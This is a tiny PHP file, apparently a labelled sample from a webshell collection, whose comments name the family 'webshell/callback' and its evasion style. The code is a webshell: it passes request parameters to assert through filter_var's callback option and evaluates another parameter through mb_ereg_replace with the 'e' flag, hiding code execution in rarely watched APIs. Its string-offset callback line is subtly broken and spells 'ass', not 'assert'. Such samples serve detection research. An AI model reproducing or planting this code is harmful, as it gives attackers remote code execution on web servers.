<?php
// Family: webshell/callback
// Style: evaluators reached through rarely watched callback APIs
// Trait: filter_var with FILTER_CALLBACK naming assert, array_intersect_ukey with a request key and a callback assembled from string offsets, mb_ereg_replace with the e option
$k = 'xsaert';
filter_var($_REQUEST['a'], FILTER_CALLBACK, array('options' => 'assert'));
array_intersect_ukey(array($_REQUEST['b'] => 1), array(1), $k[2] . $k[1] . $k[1]);
mb_ereg_replace('.*', $_REQUEST['c'], '', 'e');
